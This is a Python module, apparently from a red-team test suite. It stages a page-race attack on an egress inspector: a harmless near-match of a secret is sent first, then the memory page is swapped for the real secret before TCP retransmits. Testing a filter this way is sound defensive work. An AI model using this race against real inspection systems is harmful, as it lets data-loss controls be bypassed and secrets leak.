"""What the inspector read is not what leaves: pages change between its word and the next sending.

The first sending of a segment is a harmless near match, held for the inspector. While it waits,
the page gets the value; TCP sends the segment again, and it is let out by the word about the
first. `way` as in page_race. The row's secret must be of a kind that only the inspector decides.
"""

from __future__ import annotations

import mmap
import os
import time

from attacks.connection import drained, give_up
from attacks.page_race import WAYS
from attacks.target import Target, refused

PAGE = mmap.PAGESIZE
SOONER = (
    0.0,
    0.005,
    0.015,
    0.03,
    0.04,
)  # seconds until the page is changed: the word takes a while


def main(target: Target) -> None:
    """At several moments."""
    for pause in SOONER * 2:
        once(target, pause)


def once(target: Target, pause: float) -> None:
    """One connection."""
    value = target.payload
    at = value.index(target.secret)
    # The same front, and then nothing that the whole expression would take.
    near = value[: at + 12] + b"!" * (len(target.secret) - 12) + value[at + len(target.secret) :]
    file = os.memfd_create("page")
    os.ftruncate(file, PAGE)
    page = mmap.mmap(file, PAGE)
    page[: len(near)] = near
    made = target.tcp()
    try:
        with refused():
            made.sendall(b"hello, this is the beginning\n")
            drained(made, 0.3)
            WAYS[target.args.get("way", "sendfile")](made, file, page, len(value))
            time.sleep(pause)
            page[: len(value)] = value
        drained(made, 1.0)
    finally:
        give_up(made)
